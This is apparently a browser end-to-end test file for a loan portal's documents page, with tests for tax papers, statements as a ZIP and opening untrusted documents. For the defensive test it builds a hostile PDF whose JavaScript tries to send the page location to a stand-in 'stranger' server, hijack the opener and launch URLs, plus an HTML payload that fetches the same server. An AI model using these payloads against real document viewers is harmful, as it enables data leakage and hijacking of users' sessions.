import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { it } from 'node:test';
import type { Page } from 'puppeteer-core';
import { formatMoney, type Transaction } from '../../sdk/index.ts';
import { pdfText } from '../support/pdf-text.ts';
import { signedInClient } from '../support/api.ts';
import { find, inFirefox, signIn, waitForText } from '../support/browser.ts';
import { windowFrom } from '../support/host-stage.ts';
import { setStage } from '../support/stage.ts';

const stage = setStage();
const userId = 'bailey.pastdue';

/** What the page was given to keep or to show, and where it wanted to show it. */
interface Kept {
  files: Map<string, Blob>;
  opened: string[];
}

/** Has the page keep what it hands to the browser, so that it can be read in any of them. */
async function keepFiles(page: Page): Promise<void> {
  await page.evaluate(() => {
    const kept: Kept = { files: new Map(), opened: [] };
    Object.assign(window, { kept });
    const { createObjectURL } = URL;
    URL.createObjectURL = (blob: Blob) => {
      const url = createObjectURL.call(URL, blob);
      kept.files.set(url, blob);
      return url;
    };
    window.open = (url) => {
      kept.opened.push(String(url));
      return { opener: null } as unknown as Window;
    };
    HTMLAnchorElement.prototype.click = () => undefined;
  });
}

/** Bytes of a file that the page was given, once there are so many. */
async function fileAt(page: Page, at: number): Promise<Buffer> {
  await page.waitForFunction(
    (wanted: number) => (window as unknown as { kept: Kept }).kept.files.size > wanted,
    { timeout: 30_000, polling: 100 },
    at,
  );
  const bytes = await page.evaluate(async (wanted: number) => {
    const blob = [...(window as unknown as { kept: Kept }).kept.files.values()][wanted]!;
    return Array.from(new Uint8Array(await blob.arrayBuffer()));
  }, at);
  return Buffer.from(bytes);
}

async function choose(page: Page, id: string, value: string): Promise<void> {
  await page.evaluate(
    (list, wanted) => {
      const root = document.querySelector('fs-portal')?.shadowRoot ?? document;
      const element = root.querySelector('fs-documents') ?? document.querySelector('fs-documents');
      const select = element!.shadowRoot!.querySelector<HTMLSelectElement>(`#${list}`)!;
      select.value = wanted;
      select.dispatchEvent(new Event('change', { bubbles: true }));
    },
    id,
    value,
  );
}

it('opens a year’s tax paper with the interest of the ledger, and takes statements along as a ZIP', async () => {
  const { lender } = stage.sandbox;
  const client = await signedInClient(lender, userId);
  const [account] = (await client.accounts.list()).items;
  assert.ok(account);
  const { items } = await client.documents.list(account.id, { filter: { kind: 'tax' } });
  const [tax] = items;
  assert.ok(tax?.amount);
  let interest = 0;
  const filter = { from: `${String(tax.year)}-01-01`, to: `${String(tax.year)}-12-31` };
  const history: Transaction[] = [];
  for await (const one of client.accounts.transactions(account.id, { filter })) history.push(one);
  for (const { kind, allocation } of history) {
    if (kind === 'payment') interest += allocation.interest.amount;
    if (kind === 'reversal') interest -= allocation.interest.amount;
  }
  assert.equal(tax.amount.amount, interest);

  await client.accounts.payoffLetter(account.id, { date: account.asOf });

  const page = await stage.browser.newPage();
  await signIn(page, lender, userId);
  await find(page, 'Documents', 'link').click();
  await waitForText(page, 'Contract');
  await keepFiles(page);
  await choose(page, 'kind', 'payoff_letter');
  const payoff = formatMoney(account.payoff.amount, 'en-US');
  await waitForText(page, new RegExp(`Payoff letter of .*\\${payoff} to pay off`));
  await choose(page, 'kind', 'tax');
  const figure = formatMoney(tax.amount, 'en-US');
  await waitForText(page, `${figure} of interest paid`);
  await find(page, `Open: Tax paper for ${String(tax.year)}`, 'button').click();

  const paper = pdfText(await fileAt(page, 0));
  assert.ok(paper.includes(figure), paper);
  assert.ok(paper.includes('Sample, not an IRS form'));
  const opened = await page.evaluate(() => (window as unknown as { kept: Kept }).kept.opened);
  assert.match(opened[0] ?? '', /^blob:/);

  await choose(page, 'kind', 'statement');
  await waitForText(page, /Statement, \w+ \d{4} New/);
  await find(page, 'Choose all that are shown', 'checkbox').click();
  await find(page, 'Download as ZIP', 'button').click();
  const statements = (
    await client.documents.list(account.id, { filter: { kind: 'statement' }, limit: 50 })
  ).items;
  // One file for each is never handed out: the next one that is, is the ZIP.
  const zip = (await fileAt(page, 1)).toString('latin1');
  assert.equal(zip.slice(0, 2), 'PK');
  assert.equal(zip.split('%PDF-1.7').length - 1, statements.length);
});

/** A site of a stranger's, and each request that it was sent: the address, where it says it comes from, and what it carries. */
async function strangersSite() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const { url = '', headers } = request;
    if (url !== '/favicon.ico') asked.push(`${url} from ${headers.referer ?? 'nowhere'}`);
    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
    response.end(
      `<title>A stranger</title><script>fetch(opener ? '/opener-here' : '/opener-none')</script>`,
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { asked, origin: `http://127.0.0.1:${String(port)}`, close: () => server.close() };
}

/**
 * A PDF of one page that tries what a PDF can: scripts as it is opened, and a link over all of the page.
 *
 * @param last what its script does in the end, when all that was in vain
 */
function hostilePdf(stranger: string, last: string): string {
  const tries = [
    'localStorage.setItem("hostile", "ran")',
    'top.document.title = "hostile"',
    'opener.location = "about:blank"',
    `fetch("${stranger}/fetched?" + location)`,
    `this.submitForm({ cURL: "${stranger}/sent" })`,
    `app.launchURL("${stranger}/launched", true)`,
    `this.getURL("${stranger}/got")`,
  ].map((one) => `try { ${one}; } catch {}`);
  const script = [...tries, last].join(' ').replace(/[()]/g, '\\$&');
  const font = '/DA (/Helv 12 Tf 0 g)';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] ${font} >> /OpenAction << /S /JavaScript /JS (${script}) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R 5 0 R] >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /Border [0 0 0] /A << /S /URI /URI (${stranger}/linked) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (ran) /F 4 /P 3 0 R /Rect [10 10 90 30] ${font} >>`,
  ];
  let pdf = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = pdf.length;
    pdf += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const table = pdf.length;
  const count = String(objects.length + 1);
  pdf += `xref\n0 ${count}\n0000000000 65535 f \n${offsets.join('')}`;
  return `${pdf}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${String(table)}\n%%EOF\n`;
}

/** Has the lender send these for the documents that are asked for, one after the other. */
async function sendInstead(page: Page, ...contents: string[]): Promise<void> {
  await page.evaluateOnNewDocument((texts: string[]) => {
    const { fetch } = window;
    window.fetch = async (input, init) => {
      const request = new Request(input, init);
      if (!request.url.endsWith('/content')) return fetch(request);
      const bytes = new TextEncoder().encode(texts.shift());
      const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
      return new Response(bytes, {
        headers: {
          'Content-Type': 'text/html',
          'Repr-Digest': `sha-256=:${btoa(String.fromCharCode(...digest))}:`,
        },
      });
    };
  }, contents);
}

it(
  'opens hostile documents where nothing in them runs as ours, and their links learn nothing',
  { skip: !inFirefox && 'Chromium’s shell shows no PDF' },
  async (test) => {
    const stranger = await strangersSite();
    test.after(() => stranger.close());
    const page = await (await stage.browser.createBrowserContext()).newPage();
    const markup = `<!doctype html><script>localStorage.setItem("hostile", "ran"); fetch("${stranger.origin}/markup")</script>`;
    // A field that a script has filled in tells that it ran, but has the viewer ask before it is left.
    await sendInstead(
      page,
      markup,
      hostilePdf(stranger.origin, 'this.getField("ran").value = "yes";'),
      hostilePdf(stranger.origin, ''),
    );
    await signIn(page, stage.sandbox.lender, userId);
    await find(page, 'Documents', 'link').click();
    const open = async (name: string) => {
      const tab = await windowFrom(stage.browser, () =>
        find(page, `Open: ${name}`, 'button').click(),
      );
      // The browser's viewer, with whatever it makes of it.
      await tab.waitForFunction(
        () => location.protocol === 'blob:' && document.querySelector('#viewerContainer'),
        { timeout: 30_000, polling: 100 },
      );
      return tab;
    };

    await (await open('Contract')).close();
    await page.bringToFront();
    const ran = await open('Tax paper for 2025');
    await ran.waitForFunction(
      () => document.querySelector<HTMLInputElement>('.annotationLayer input')?.value === 'yes',
      { timeout: 30_000, polling: 100 },
    );
    await ran.close();
    await page.bringToFront();
    const tab = await open('Contract');
    await tab.locator('.annotationLayer a').click();
    await tab.waitForFunction(() => document.title === 'A stranger', {
      timeout: 30_000,
      polling: 100,
    });
    const deadline = Date.now() + 15_000;
    while (stranger.asked.length < 2 && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 100));
    }

    // Only what was pressed, without a word of where; and the page there has no hold of ours.
    assert.deepEqual(stranger.asked, [
      '/linked from nowhere',
      `/opener-none from ${stranger.origin}/linked`,
    ]);
    await page.bringToFront();
    assert.equal(await page.evaluate(() => localStorage.getItem('hostile')), null);
    assert.match(page.url(), /#documents$/);
    assert.match(await page.title(), /^Documents/);
  },
);
